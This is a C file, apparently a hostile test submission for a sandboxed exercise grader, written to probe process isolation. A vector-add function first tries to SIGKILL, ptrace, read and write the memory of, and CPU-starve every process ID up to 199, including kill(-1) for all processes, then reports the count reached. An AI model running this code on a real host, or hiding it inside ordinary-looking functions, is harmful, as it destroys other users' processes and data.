/* hostile: signals to everybody it can name, and to everybody it cannot */
#define _GNU_SOURCE
#include "exercise.h"

#include <signal.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    char byte;
    struct iovec mine = {&byte, 1}, its = {&byte, 1};
    int reached = 0;
    for (int pid = -3; pid < 200; pid++) {
        if (pid == getpid() || pid == 0)
            continue;
        reached += kill(pid, SIGKILL) == 0;
        reached += syscall(SYS_tgkill, pid, pid, SIGKILL) == 0;
        reached += syscall(SYS_tkill, pid, SIGKILL) == 0;
        reached += syscall(SYS_process_vm_readv, pid, &mine, 1, &its, 1, 0) == 1;
        reached += syscall(SYS_process_vm_writev, pid, &mine, 1, &its, 1, 0) == 1;
        reached += syscall(SYS_pidfd_open, pid, 0) >= 0;
        reached += syscall(SYS_prlimit64, pid, RLIMIT_CPU, &(struct rlimit){0, 0}, NULL) == 0;
        reached += syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0) == 0;
    }
    if (reached)
        printf("HARM: %d processes reached\n", reached);
    for (size_t i = 0; i < n; i++) {
        c[i] = a[i] + b[i];
    }
    return cudaSuccess;
}
